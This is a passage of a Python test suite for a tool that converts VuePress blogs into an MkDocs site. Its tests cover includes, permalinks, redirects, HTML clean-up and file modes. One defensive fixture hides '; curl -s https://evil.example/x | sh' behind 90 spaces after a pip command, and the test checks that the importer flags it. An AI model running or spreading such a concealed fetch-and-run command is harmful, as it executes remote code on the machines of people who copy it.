        "guide/a.md": "---\ntitle: 甲\n---\n<!-- @include: ./part.md -->\n\n<!-- @include: ./linked.md -->\n",
        "guide/b.md": "---\ntitle: 乙\n---\n[丙](./linked.md)\n\n<!-- @include: ./nav.md -->\n\n```md\n<!-- @include: ./shown.md -->\n```\n",
        "guide/part.md": "共用的一段。\n\n::: oops\n:::\n",
        "guide/linked.md": "---\ntitle: 丙\n---\n被链接的。\n",
        "guide/nav.md": "---\ntitle: 丁\n---\n导航里的。\n",
        "guide/shown.md": "---\ntitle: 戊\n---\n只在代码里提到。\n",
    })
    assert "共用的一段。" in (docs / "guide/a.md").read_text(encoding="utf-8") and not (docs / "guide/part.md").exists()
    assert sorted(report.essays) == ["guide/a.md", "guide/b.md", "guide/linked.md", "guide/nav.md", "guide/shown.md"]
    assert any(line.startswith("guide/a.md:4: in ./part.md: '::: oops'") for line in report.needs_a_person)
    assert not any(line.startswith("guide/part.md") for line in report.needs_a_person)  # no page, no notes of its own
    assert "included only: guide/part.md (in guide/a.md): not a page of its own" in report.render()


def test_pages_that_include_each_other_are_both_imported_and_the_ring_is_said(tmp_path):
    """a.md includes b.md and b.md includes a.md: each was a part of the other, no page held either, and
    both vanished ("essays imported: 0", "needs a person: nothing"). Each is a page now, with the other's
    text once; the include that leads back is left out and named, at its line."""
    report, docs = import_files(tmp_path, {
        "guide/a.md": "---\ntitle: 甲\n---\n甲的正文。\n\n<!-- @include: ./b.md -->\n",
        "guide/b.md": "---\ntitle: 乙\n---\n乙的正文。\n\n<!-- @include: ./a.md -->\n",
        "guide/c.md": "---\ntitle: 丙\n---\n丙。\n\n<!-- @include: ./part.md -->\n",
        "guide/part.md": "丙的一段。\n\n<!-- @include: ./more.md -->\n",  # a part of a page of the ring
        "guide/more.md": "又一段。\n",
        "guide/self.md": "---\ntitle: 丁\n---\n丁。\n\n<!-- @include: ./self.md -->\n",
    })
    assert sorted(report.essays) == ["guide/a.md", "guide/b.md", "guide/c.md", "guide/self.md"]
    pages = {"a": ["甲的正文。", "乙的正文。"], "b": ["乙的正文。", "甲的正文。"], "c": ["丙。", "丙的一段。", "又一段。"], "self": ["丁。"]}
    for page, texts in pages.items():
        text = (docs / f"guide/{page}.md").read_text(encoding="utf-8")
        assert [text.count(part) for part in texts] == [1] * len(texts), page
    rendered = report.render()
    assert "guide/a.md:6: in ./b.md: include './a.md' leads back to a file that includes it (guide/a.md → guide/b.md → guide/a.md)" in rendered
    assert "guide/b.md:6: in ./a.md: include './b.md' leads back to a file that includes it" in rendered
    assert "guide/self.md:6: include './self.md' leads back to a file that includes it (guide/self.md → guide/self.md)" in rendered
    assert "included only: guide/more.md (in guide/part.md)" in rendered and "included only: guide/part.md (in guide/c.md)" in rendered


def test_a_file_that_grows_after_its_size_was_looked_at_is_read_no_further_than_the_limit(tmp_path, monkeypatch):
    """A file's size is a moment old when it is read (the blog is hostile input): what is read decides,
    and no more than the limit and a byte is read."""
    from errata.blog import importer

    monkeypatch.setattr(importer, "MAX_ESSAY_BYTES", 1000)
    monkeypatch.setattr(importer, "MAX_ASSET_BYTES", 1000)
    write(tmp_path / "blog/docs/code/grows.py", "x = 1\n" * 1000)
    write(tmp_path / "blog/docs/.vuepress/parts/grows.md", "长" * 1000)
    write(tmp_path / "blog/docs/img/grows.png", PNG + b"\0" * 5000)
    real_stat = Path.stat

    def stat(self, *args, **kwargs):  # the size each had when it was looked at: none yet
        found = real_stat(self, *args, **kwargs)
        return os.stat_result((*found[:6], 0, *found[7:10])) if self.name.startswith("grows") else found

    monkeypatch.setattr(Path, "stat", stat)
    report, docs = import_files(tmp_path, {"guide/a.md": "---\ntitle: 甲\n---\n@[code](../code/grows.py)\n\n<!-- @include: ../.vuepress/parts/grows.md -->\n\n![图](../img/grows.png)\n"})
    text = (docs / "guide/a.md").read_text(encoding="utf-8")
    assert "x = 1" not in text and "长" not in text and not (docs / "img/grows.png").exists()
    assert any(line.startswith("guide/a.md:4: code import '../code/grows.py'") for line in report.needs_a_person)
    assert any(line.startswith("guide/a.md:6: include '../.vuepress/parts/grows.md'") for line in report.needs_a_person)
    assert any(line.startswith("img/grows.png: larger than") for line in report.needs_a_person)


@pytest.mark.parametrize("name, config, expected", [
    ("config.ts", "import { plumeTheme } from 'vuepress-theme-plume'\nexport default defineUserConfig({ theme: plumeTheme({}) })\n", "H<sub>2</sub>O 2<sup>10</sup>"),
    ("config.ts", "export default defineUserConfig({ theme: hopeTheme({ markdown: { sub: true } }) })\n", "H<sub>2</sub>O 2^10^"),
    ("config.ts", "export default defineUserConfig({ theme: hopeTheme({ plugins: { mdEnhance: { enableAll: true } } }) })\n", "H<sub>2</sub>O 2<sup>10</sup>"),
    ("config.ts", "export default defineUserConfig({ plugins: [mdEnhancePlugin({ sup: true })] })\n", "H~2~O 2<sup>10</sup>"),
    ("config.js", "module.exports = { plugins: [['md-enhance', { sub: true, sup: true }]] }\n", "H<sub>2</sub>O 2<sup>10</sup>"),
    ("config.js", "module.exports = { themeConfig: { mdEnhance: { sub: false } } }\n", "H~2~O 2^10^"),
])
def test_sub_and_superscript_convert_where_the_blog_s_theme_has_them_on(tmp_path, name, config, expected):
    """plume always reads H~2~O and 2^10^; vuepress-theme-hope and md-enhance when told to; others show the marks."""
    write(tmp_path / "blog/docs/.vuepress" / name, config)
    _, docs = import_files(tmp_path, {"a.md": "---\ntitle: 甲\n---\nH~2~O 2^10^\n"})
    assert (docs / "a.md").read_text(encoding="utf-8").endswith(f"\n{expected}\n")


def test_site_settings_with_characters_yaml_refuses_raw_are_written_so_mkdocs_reads_them_back():
    """A blog's title with a C1 control or DEL (JSON leaves them raw, YAML refuses them) made mkdocs.yml
    unreadable: every build then failed on the config; a line separator or NEL would be folded to a space."""
    import mkdocs.config

    for title in ("博客\x80x", "a\x7fb", "a\x85b", "a\u2028b\u2029c", "a\ufffeb", 'q"\\\n\t\x00', "\U0001f600 好"):
        text, _ = apply_site_config((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), SiteConfig(title=title, description=title))
        config = mkdocs.config.load_config(config_file=io.StringIO(text), config_file_path=str(ROOT / "mkdocs.yml"))
        written = site_text(title)  # '"' as its full-width form: the theme prints the name raw
        assert (config["site_name"], config["site_description"]) == (written, written)


def test_a_blog_with_scripts_styles_frames_and_vue_bindings_builds_strict(tmp_path):
    """Three of four real blogs failed the strict build on HTML the site refuses, and the import said
    nothing; it now writes what the build accepts and names, file and line, what went and what is left."""
    docs = tmp_path / "blog/docs"
    write(docs / "01.前端/01.防抖.md", essay("防抖", "/pages/aa0001/",
          '## 示例\n\n<p class="codepen" data-height="300" data-slug-hash="abc" style="height: 300px;">\n'
          '  <span>见 <a href="https://codepen.io/someone/pen/abc">例子</a></span>\n</p>\n'
          '<script async src="https://static.codepen.io/assets/embed/ei.js"></script>\n\n'
          '<iframe src="https://example.org/demo" title="演示"></iframe>\n'))
    write(docs / "02.关于.md", essay("关于", "/about/",
          '- **微信**：<a :href="contactUrl" class="contact">联系我</a>\n- **QQ**：<a href="tencent://message/?uin=1">1</a>\n\n'
          "<script>\nexport default {\n  data() { return { contactUrl: 'weixin://x' } }\n}\n</script>\n\n"
          "<style scoped>\n.contact { color: red; }\n</style>\n"))
    write(docs / "03.数据.md", essay("数据", "/pages/aa0003/",
          '```python\ndf.info\n```\n\n    <bound method DataFrame.info of    age>\n\n<div>\n<component is="style" scoped>\n'
          "  .tbl th { text-align: right; }\n</component>\n<table border=\"1\" class=\"tbl\">\n  <tr style=\"text-align: right;\">\n"
          "    <th>年龄</th>\n  </tr>\n</table>\n</div>\n"))
    write(docs / "04.剩下的.md", essay("剩下的", "/pages/aa0004/", '正文\n\n<script\n  src="https://example.org/a.js"></script>\n'))
    project = make_project(tmp_path / "project")
    report = import_blog(tmp_path / "blog", project)
    people = "\n".join(report.needs_a_person)
    first_body_line = essay("t", "/p/", "").count("\n") + 1
    assert f"01.前端/01.防抖.md:{first_body_line + 5}: <script> is a script VuePress ran" in people
    assert f"02.关于.md:{first_body_line}: <a>: Vue's binding :href is VuePress's own" in people
    assert f"02.关于.md:{first_body_line + 3}: <script> (to line {first_body_line + 7})" in people
    assert "<iframe> is not something the site shows: it is a link to https://example.org/demo now" in people
    # What the conversion could not take apart (a start tag over two lines) is named where it is written.
    assert f"04.剩下的.md:{first_body_line + 2}: <script> element is still in the page: the strict build refuses it" in people
    (project / "04.剩下的.md").unlink()
    data = (project / "03.数据.md").read_text(encoding="utf-8")
    assert "    <bound method DataFrame.info of    age>" in data and "text-align: right; }" not in data
    result = build_site(tmp_path / "site", docs_dir=project)
    assert result.returncode == 0, result.stderr
    about = (tmp_path / "site/关于/index.html").read_text(encoding="utf-8")
    assert '<a class="contact">联系我</a>' in about and "export default" not in about and "tencent:" not in about
    demo = (tmp_path / "site/前端/防抖/index.html").read_text(encoding="utf-8")
    assert '<a href="https://example.org/demo">演示</a>' in demo and "codepen.io/someone/pen/abc" in demo


def test_a_catalogue_lists_its_pages_in_the_navigation_s_order(tmp_path):
    """Numbered as vdoing numbers them, sorted by the number: 9. before 80. before 1110. (as text, 1110. came first)."""
    blog = tmp_path / "blog/docs"
    for path in ("01.前端/9.九.md", "01.前端/80.八十.md", "01.前端/1110.三级目录/00.四级文件.md"):
        write(blog / path, f"---\ntitle: {path.rsplit('/', 1)[-1][:-3].split('.', 1)[1]}\n---\n正文\n")
    write(blog / "00.目录页/01.前端.md", "---\npageComponent:\n  name: Catalogue\n  data:\n    key: 01.前端\ntitle: 前端\n---\n")
    docs = tmp_path / "docs"
    import_blog(tmp_path / "blog", docs)
    listed = [line for line in (docs / "01.前端/index.md").read_text(encoding="utf-8").split("\n") if line.startswith("- ")]
    assert listed == ["- [九](9.九.md)", "- [八十](80.八十.md)", "- [四级文件](1110.三级目录/00.四级文件.md)"]


@pytest.mark.parametrize("umask, expected", [(0o022, 0o644), (0o077, 0o600)])
def test_imported_files_get_the_mode_new_files_get_and_a_file_there_keeps_its_own(tmp_path, umask, expected):
    """Every imported page and picture was written 0600 (a temporary file's mode, kept by the rename):
    a web server that serves the site as another user could read none of them."""
    import stat

    blog = tmp_path / "blog/docs"
    write(blog / "01.a.md", "---\ntitle: A\n---\n![图](img/1.png)\n")
    write(blog / "img/1.png", PNG)
    docs = tmp_path / "docs"
    write(docs / "01.a.md", "旧的\n").chmod(0o640)
    old = os.umask(umask)
    try:
        import_blog(tmp_path / "blog", docs)
    finally:
        os.umask(old)
    assert stat.S_IMODE((docs / "img/1.png").stat().st_mode) == expected
    assert stat.S_IMODE((docs / "01.a.md").stat().st_mode) == 0o640  # replaced, its mode kept
    assert not list(docs.rglob("*.tmp"))


def test_public_files_named_through_the_base_or_with_base_and_code_imported_from_the_repository_root(tmp_path):
    """Three ways of naming a file VuePress reads and the import did not: ``$withBase('/img/a.png')``
    (the picture was lost with the binding), ``/blog/img/a.png`` under ``base: '/blog/'``, and VuePress
    1's ``<<< ./docs/code/a.js``, read from where VuePress ran (the repository), not from the page."""
    docs = tmp_path / "blog/docs"
    write(docs / ".vuepress/config.js", "module.exports = { title: 't', base: '/blog/' }\n")
    write(docs / ".vuepress/public/img/a.png", PNG)
    write(docs / "code/a.js", 'console.log("hello")\n')
    write(docs / "01.笔记/01.图.md", "---\ntitle: 图\n---\n<img :src=\"$withBase('/img/a.png')\" alt=\"图\">\n\n![带 base](/blog/img/a.png)\n\n"
          "<<< ./docs/code/a.js\n\n<<< @/code/a.js\n")
    out = tmp_path / "out"
    report = import_blog(tmp_path / "blog", out)
    page = (out / "01.笔记/01.图.md").read_text(encoding="utf-8")
    assert '<img src="../../img/a.png" alt="图">' in page and "![带 base](../img/a.png)" in page
    assert page.count('console.log("hello")') == 2 and "<<<" not in page
    assert (out / "img/a.png").read_bytes() == PNG and not report.needs_a_person
    assert import_blog(docs, tmp_path / "out2").needs_a_person == []  # the blog's docs/ given: the same


def test_a_relative_link_into_the_public_folder_is_the_public_file(tmp_path):
    """VuePress 1 bundles ``![](../.vuepress/public/img/a.png)`` as the file beside the page (a real vdoing blog
    wrote all its pictures so): the import called each one "leads to nothing" and left its alt text instead."""
    docs = tmp_path / "blog/docs"
    write(docs / ".vuepress/public/img/a.png", PNG)
    write(docs / "gRPC笔记/04.bug.md", "---\ntitle: 甲\n---\n![avatar](../.vuepress/public/img/a.png)\n\n"
          "<img src=\"../.vuepress/public/img/a.png\">\n\n![缺](../.vuepress/public/img/none.png)\n")
    write(docs / "a/b/深.md", "---\ntitle: 乙\n---\n![深](../../.vuepress/public/img/a.png)\n")
    out = tmp_path / "out"
    report = import_blog(tmp_path / "blog", out)
    page = (out / "gRPC笔记/04.bug.md").read_text(encoding="utf-8")
    assert "![avatar](../img/a.png)" in page and '<img src="../../img/a.png">' in page
    assert "![深](../../img/a.png)" in (out / "a/b/深.md").read_text(encoding="utf-8")
    assert (out / "img/a.png").read_bytes() == PNG
    assert [line.split(": ", 1)[1] for line in report.needs_a_person] == ["image ../.vuepress/public/img/none.png: leads to nothing in the blog"]


def test_a_note_whose_cause_and_fix_stand_in_a_container_is_an_entry(tmp_path):
    """A real vdoing note put its ``原因：`` and ``解决：`` in a ``::: warning``: the import made that an
    admonition, its body indented four spaces, and the entry reader (labels at the margin) found no cause or fix."""
    from errata.entries import find_entries

    body = ("## 4.1找不到类`io.grpc.BindableService`\n```shell\njava.lang.NoClassDefFoundError: io/grpc/BindableService\n"
            "\tat java.lang.Class.getDeclaredMethods0(Native Method)\n```\n::: warning Tips\n原因：\n<br/>jdk 版本和 jre 版本不一致。\n\n"
            "解决：\n<br/>检查 **java -version** 和 **javac -version** 版本是否一致。\n:::\n\n重新安装一致的版本。\n")
    _, docs = import_files(tmp_path, {"gRPC笔记/04.bug.md": "---\ntitle: 甲\n---\n" + body})
    imported = split_front_matter((docs / "gRPC笔记/04.bug.md").read_text(encoding="utf-8")).body
    assert '!!! warning "Tips"' in imported
    [entry] = find_entries(imported)
    assert entry.message == "java.lang.NoClassDefFoundError: io/grpc/BindableService"
    assert "jdk 版本和 jre 版本不一致" in entry.sections["analysis"] and "javac -version" in entry.sections["solution"]
    assert "    " not in entry.sections["solution"]  # dedented as a section at the margin is


def test_a_tools_padded_columns_pass_and_a_hidden_command_is_said_before_the_strict_build_refuses_it(tmp_path):
    """``yum list available`` printed in a real vdoing note pads its columns past column 80: the strict build refused
    the page (text out of a code block's sight) while the import's report said nothing needs a person. A block of
    output passes now; a command with text pushed out of sight is said in the report, at its line."""
    row = "  kernel-lt.x86_64" + " " * 82 + "4.4.155-1.el7.elrepo" + " " * 50 + "elrepo-kernel"
    command = "pip install requests" + " " * 90 + "; curl -s https://evil.example/x | sh"
    report, docs = import_files(tmp_path, {
        "运维/01.在线升级.md": f"---\ntitle: 在线升级\n---\n\n```text\n  Available Packages\n{row}\n```\n",
        "运维/02.安装.md": f"---\ntitle: 安装\n---\n\n```bash\n{command}\n```\n",
    })
    assert report.needs_a_person == [
        "运维/02.安装.md:6: text after 90 blank characters, out of sight where the line is shown (a code block scrolls"
        " sideways) but copied with it: remove the blanks; the strict build refuses it until then"
    ]


def test_names_with_url_characters_are_linked_escaped_and_a_hash_is_renamed_so_old_addresses_lead_there(tmp_path):
    """A '#' in a file or folder name (``C#``) made the catalogue's link and the permalink's redirect lead
    nowhere and the strict build fail, while the report said nothing needs a person."""
    blog = tmp_path / "blog/docs"
    write(blog / "01.C#/01.路径里的#号.md", essay("路径里的#号", "/pages/h1a2b3/", "![图](img/a%23b.png) [下一篇](02.完成%20100%25%3F.md)\n"))
    write(blog / "01.C#/02.完成 100%?.md", essay("完成 100%?", "/pages/h1a2b4/", "[上一篇](01.路径里的%23号.md)\n"))
    write(blog / "01.C#/img/a#b.png", PNG)
    write(blog / "00.目录页/01.C#.md", "---\npageComponent:\n  name: Catalogue\n  data:\n    key: 01.C#\ntitle: C#\npermalink: /csharp/\n---\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    assert (docs / "01.C＃/01.路径里的＃号.md").is_file() and (docs / "01.C＃/img/a＃b.png").is_file()
    assert any(line.startswith("01.C#/01.路径里的#号.md → 01.C＃/01.路径里的＃号.md") for line in report.renamed)
    assert "renamed: 01.C#/01.路径里的#号.md" in report.render() and not report.needs_a_person
    listed = (docs / "01.C＃/index.md").read_text(encoding="utf-8")
    assert "(01.路径里的＃号.md)" in listed and "(02.完成%20100%25%3F.md)" in listed
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    for old in ("pages/h1a2b3", "pages/h1a2b4", "csharp"):
        assert "refresh" in (tmp_path / "site" / old / "index.html").read_text(encoding="utf-8")
    assert unresolved_references(tmp_path / "site") == []


def test_a_renamed_file_never_replaces_one_of_the_blog(tmp_path):
    write(tmp_path / "blog/docs/a#b.md", "---\ntitle: 一\n---\n一\n")
    write(tmp_path / "blog/docs/a＃b.md", "---\ntitle: 二\n---\n二\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert sorted(path.name for path in (tmp_path / "docs").iterdir()) == ["a＃b-2.md", "a＃b.md"]
    assert (tmp_path / "docs/a＃b.md").read_text(encoding="utf-8").endswith("二\n") and len(report.renamed) == 1


def test_a_page_at_its_old_address_gets_the_same_front_matter_treatment_as_any(tmp_path):
    """A hope folder README (``icon: info``, ``permalink: /about/``) returned early, before its icon was put aside:
    the strict build stopped on ``icon 'info' is not an icon of the theme``, and the report said nothing."""
    write(tmp_path / "blog/src/.vuepress/config.ts", "export default { title: '小站' }\n")
    write(tmp_path / "blog/src/about/README.md", "---\ntitle: 关于\nicon: info\npermalink: /about/\n---\n关于本站\n")
    write(tmp_path / "blog/src/notes/README.md", "---\ntitle: 笔记\nicon: book\n---\n笔记\n")
    write(tmp_path / "blog/src/notes/a.md", "---\ntitle: 甲\n---\n甲\n")
    write(tmp_path / "blog/src/00.目录页/01.笔记.md", "---\npageComponent:\n  name: Catalogue\n  data:\n    key: 09.文集\ntitle: 文集\npermalink: /文集/\n---\n")
    write(tmp_path / "blog/src/09.文集/a.md", "---\ntitle: 乙\n---\n乙\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    meta = split_front_matter((docs / "about/README.md").read_text(encoding="utf-8")).metadata
    assert meta.get("vuepress_icon") == "info" and "icon" not in meta and "permalink" not in meta
    assert "about/README.md:3: front matter 'icon' means something else to Material: kept as 'vuepress_icon'" in report.needs_a_person
    assert any(line.startswith("about/README.md: /about/ is its address here too") for line in report.same_address)
    assert "permalink" not in split_front_matter((docs / "09.文集/index.md").read_text(encoding="utf-8")).metadata
    assert any(line.startswith("00.目录页/01.笔记.md: /文集/ is its address here too") for line in report.same_address)
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr


def test_pages_without_a_permalink_keep_the_addresses_vuepress_gave_them(tmp_path):
    """A VuePress page that names no permalink was at ``/a/b.html`` (and ``/a/b``): after the import those
    addresses were 404s, every inbound link broken, and the report said nothing."""
    import urllib.request

    from dev.devtools import serve

    blog = tmp_path / "blog"
    write(blog / ".vuepress/config.js", "module.exports = { title: '小站' }\n")
    write(blog / "README.md", "---\nhome: true\n---\n")
    write(blog / "web/事件循环.md", "---\ntitle: 事件循环\n---\n正文\n")
    write(blog / "01.笔记/02.安装 (Windows).md", "---\ntitle: 安装\n---\n正文\n")
    write(blog / "01.笔记/README.md", "---\ntitle: 笔记\n---\n目录\n")
    write(blog / "x.md", "---\ntitle: 叉\n---\n叉\n")  # /x.html is another page's permalink: not redirected
    write(blog / "y.md", "---\ntitle: 歪\npermalink: /x.html\n---\n歪\n")
    write(blog / "kept.md", "---\ntitle: 有永久链接\npermalink: /pages/k1/\n---\n正文\n")  # VuePress never published /kept.html
    docs = make_project(tmp_path)
    report = import_blog(blog, docs)
    meta = lambda path: split_front_matter((docs / path).read_text(encoding="utf-8")).metadata  # noqa: E731
    assert meta("web/事件循环.md")["redirect_from"] == ["/web/事件循环.html"]  # /web/事件循环 is its new address
    assert meta("01.笔记/02.安装 (Windows).md")["redirect_from"] == ["/01.笔记/02.安装 (Windows).html", "/01.笔记/02.安装 (Windows)"]
    assert meta("01.笔记/README.md")["redirect_from"] == ["/01.笔记/"]
    assert "redirect_from" not in meta("x.md") and "redirect_from" not in meta("kept.md")
    assert "x.md:1: the address VuePress gave it is not kept: redirect_from /x.html/ is already an address of y.md" in report.needs_a_person
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    with serve(tmp_path / "site") as root:
        for old, new in [("web/事件循环.html", "web/事件循环/"), ("01.笔记/02.安装 (Windows).html", "笔记/安装 (Windows)/"),
                         ("01.笔记/02.安装 (Windows)", "笔记/安装 (Windows)/"), ("01.笔记/", "笔记/"), ("x.html", "y/")]:
            with urllib.request.urlopen(root + quote(old)) as response:  # a host adds the folder's slash, as for permalinks
                page = response.read().decode("utf-8")
                target = re.search(r'http-equiv="refresh" content="0; url=([^"]+)"', page).group(1)
                assert unquote(urllib.parse.urljoin(response.url, target)) == root + new, (old, target)


def test_a_vdoing_blog_s_pages_get_no_old_addresses_they_never_had(tmp_path):
    """vdoing writes a permalink into every page when it builds: a page's path was never its address."""
    write(tmp_path / "blog/docs/.vuepress/config.js", "module.exports = { theme: 'vdoing', title: '小站' }\n")
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    import_blog(tmp_path / "blog", tmp_path / "docs")
    assert "redirect_from" not in split_front_matter((tmp_path / "docs/01.笔记/01.甲.md").read_text(encoding="utf-8")).metadata


@pytest.mark.parametrize("stored", ["/favorite/schedule.html", "/favorite/schedule", "/favorite/schedule/"])
def test_a_link_to_a_permalink_leads_there_with_or_without_html_and_slash(tmp_path, stored):
    """hope's permalinks end in .html: links to them were "leads to nothing" and became plain text."""
    write(tmp_path / "blog/src/.vuepress/config.ts", "export default { title: '小站' }\n")
    write(tmp_path / "blog/src/favorite/日程表.md", f"---\ntitle: 日程\npermalink: {stored}\n---\n## 待办\n")
    links = ["/favorite/schedule.html", "/favorite/schedule", "/favorite/schedule/", "/favorite/schedule.html#待办"]
    write(tmp_path / "blog/src/posts/a.md", "---\ntitle: 文章\n---\n" + " ".join(f"[日程]({link})" for link in links) + "\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    text = (tmp_path / "docs/posts/a.md").read_text(encoding="utf-8")
    assert text.count("(../favorite/日程表.md") == 4 and not report.needs_a_person, (text, report.needs_a_person)


def test_a_catalogue_of_a_folder_the_blog_does_not_have_is_said_to_be_so(tmp_path):
    """It was "dropped: the navigation lists that folder", of a folder that is not there, its permalink lost unsaid."""
    catalogue = "---\ntitle: {title}\npageComponent:\n  name: Catalogue\n  data:\n    key: {key}\npermalink: /{link}\n---\n"
    write(tmp_path / "blog/docs/00.目录页/01.移动端.md", catalogue.format(title="移动端", key="01.移动端", link="web"))
    write(tmp_path / "blog/docs/00.目录页/02.后端.md", catalogue.format(title="后端", key="02.后端", link="back"))
    write(tmp_path / "blog/docs/00.目录页/03.空.md", "---\ntitle: 空\npageComponent:\n  name: Catalogue\n---\n")
    write(tmp_path / "blog/docs/02.后端/README.md", "---\ntitle: 后端\n---\n后端的目录\n")
    write(tmp_path / "blog/docs/02.后端/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert ("00.目录页/01.移动端.md:3: the catalogue names the folder '01.移动端', which the blog does not have: "
            "not imported; its permalink /web/ leads nowhere now") in report.needs_a_person
    assert "00.目录页/03.空.md:3: a catalogue page that names no folder (pageComponent.data.key): not imported" in report.needs_a_person
    assert any("02.后端/README.md is that folder's index page; its permalink /back/ leads nowhere now" in line for line in report.theme_pages)
    assert not any("the navigation lists that folder" in line for line in report.theme_pages)


@pytest.mark.parametrize(
    "files, site_url",
    [
        ({"docs/.vuepress/config.js": "module.exports = { base: '/notes/', themeConfig: { repo: 'Some-One/notes' } }\n"}, "https://some-one.github.io/notes/"),
        ({".vuepress/config.js": "module.exports = { theme: 'reco' }\n", "CNAME": "blog.example.cn\n"}, "https://blog.example.cn/"),
        ({"docs/.vuepress/config.js": "module.exports = { base: '/notes/', themeConfig: { repo: 'someone/notes' } }\n",
          "docs/.vuepress/public/CNAME": "notes.example.cn\n"}, "https://notes.example.cn/"),
    ],
)
def test_the_site_s_address_comes_from_the_repository_s_pages_or_its_custom_domain(tmp_path, capsys, files, site_url):
    """With no hostname in the config, sitemap.xml and every canonical link pointed at errata.example.org."""
    for path, text in files.items():
        write(tmp_path / "blog" / path, text)
    docs = "docs/" if any(path.startswith("docs/") for path in files) else ""
    write(tmp_path / f"blog/{docs}01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    mkdocs_yml = write(tmp_path / "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    assert main([str(tmp_path / "blog"), str(tmp_path / "docs"), "--mkdocs-yml", str(mkdocs_yml)]) == 0
    assert f'site_url: "{site_url}"' in mkdocs_yml.read_text(encoding="utf-8")
    out = capsys.readouterr().out
    assert f"site address: {site_url} (from " in out and "site_url is still" not in out and "CNAME: not copied" not in out
    if "CNAME" in str(files):
        assert (tmp_path / "docs/CNAME").is_file()


def test_a_site_address_and_repository_the_blog_does_not_give_are_said_to_be_still_mkdocs_yml_s(tmp_path, capsys):
    write(tmp_path / "blog/.vuepress/config.js", "module.exports = { theme: 'reco', title: '小站' }\n")
    write(tmp_path / "blog/笔记/甲.md", "---\ntitle: 甲\n---\n正文\n")
    mkdocs_yml = write(tmp_path / "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    assert main([str(tmp_path / "blog"), str(tmp_path / "docs"), "--mkdocs-yml", str(mkdocs_yml)]) == 0
    person = capsys.readouterr().out.partition("needs a person")[2]
    assert f"{mkdocs_yml}: site_url is still 'https://errata.example.org/': the blog's config gives no address" in person
    assert f"{mkdocs_yml}: repo_url is still 'https://github.com/errata-kb/errata': the blog's config names no repository" in person


def test_posts_filed_under_the_posts_category_s_own_name_are_in_that_folder_once(tmp_path):
    """``_posts/随笔/x.md`` was written to ``随笔/随笔/x.md`` (its URL /随笔/随笔/x/)."""
    write(tmp_path / "blog/docs/_posts/随笔/想法.md", "---\ntitle: 想法\npermalink: /pages/p1/\n---\n正文 ![图](图.png)\n")
    write(tmp_path / "blog/docs/_posts/随笔/图.png", PNG)
    write(tmp_path / "blog/docs/_posts/读书/书.md", "---\ntitle: 书\npermalink: /pages/p2/\n---\n正文\n")
    import_blog(tmp_path / "blog", tmp_path / "docs")
    written = sorted(path.relative_to(tmp_path / "docs").as_posix() for path in (tmp_path / "docs").rglob("*.*"))
    assert written == ["随笔/图.png", "随笔/想法.md", "随笔/读书/书.md"]


def test_a_post_moved_into_the_posts_category_never_replaces_another_file(tmp_path):
    for path in ("_posts/a.md", "_posts/随笔/a.md", "随笔/b.md", "_posts/b.md"):
        write(tmp_path / "blog/docs" / path, f"---\ntitle: {path}\n---\n{path}\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    written = {path.relative_to(tmp_path / "docs").as_posix(): path.read_text(encoding="utf-8") for path in (tmp_path / "docs").rglob("*.md")}
    assert len(written) == 4 and written["随笔/b.md"].endswith("\n随笔/b.md\n")
    assert sorted(line.split(" (")[0] for line in report.renamed) == ["_posts/b.md → 随笔/b-2.md", "_posts/随笔/a.md → 随笔/a-2.md"]


@pytest.mark.parametrize(
    "config, broken",
    [
        ("export default defineUserConfig({ theme: hopeTheme({ plugins: { mdEnhance: { breaks: true } } }) })\n", True),
        ("export default defineUserConfig({ markdown: { breaks: true }, theme: defaultTheme({}) })\n", True),
        ("module.exports = { markdown: { extendMarkdown: md => { md.set({ breaks: true }) } } }\n", True),
        ("export default defineUserConfig({ theme: hopeTheme({ plugins: { mdEnhance: { sub: true } } }) })\n", False),
    ],
)
def test_a_blog_whose_markdown_breaks_lines_keeps_its_line_breaks(tmp_path, config, broken):
    write(tmp_path / "blog/src/.vuepress/config.ts", config)
    write(tmp_path / "blog/src/a.md", "---\ntitle: 甲\n---\n第一行\n第二行\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert ("第一行  \n第二行" in (tmp_path / "docs/a.md").read_text(encoding="utf-8")) == broken
    assert (report.counts["line breaks kept"] == 1) == broken


def test_a_vdoing_page_without_a_title_or_categories_gets_them_as_vdoing_gave_them(tmp_path):
    """vdoing titles a page by its file's name and files it under its folders when the author did not say:
    the import titled it by its first heading and put it in no category (6 of 16 posts of a real blog)."""
    blog = tmp_path / "blog/docs"
    write(blog / ".vuepress/config.js", "module.exports = { theme: 'vdoing', themeConfig: { categoryText: '杂记' } }\n")
    write(blog / "01.机器学习/03.小知识点/70.nn.Module说明.md", "# 另一个标题\n\n正文\n")
    write(blog / "01.机器学习/03.小知识点/80.有标题.md", "---\ntitle: 我的标题\n---\n正文\n")
    write(blog / "01.机器学习/03.小知识点/90.不是文章.md", "---\ntitle: 关于\narticle: false\n---\n正文\n")
    write(blog / "01.机器学习/03.小知识点/95.有分类.md", "---\ncategories:\n  - 自己的\n---\n正文\n")
    write(blog / "_posts/随手.md", "正文\n")
    write(blog / "01.机器学习/01.重复/01.重复/a..md", "正文\n")  # no name, one folder name twice
    import_blog(tmp_path / "blog", tmp_path / "docs")
    meta = lambda path: split_front_matter((tmp_path / "docs" / path).read_text(encoding="utf-8")).metadata  # noqa: E731
    assert meta("01.机器学习/03.小知识点/70.nn.Module说明.md") == {"title": "nn.Module说明", "categories": ["机器学习", "小知识点"]}
    assert meta("01.机器学习/03.小知识点/80.有标题.md") == {"title": "我的标题", "categories": ["机器学习", "小知识点"]}
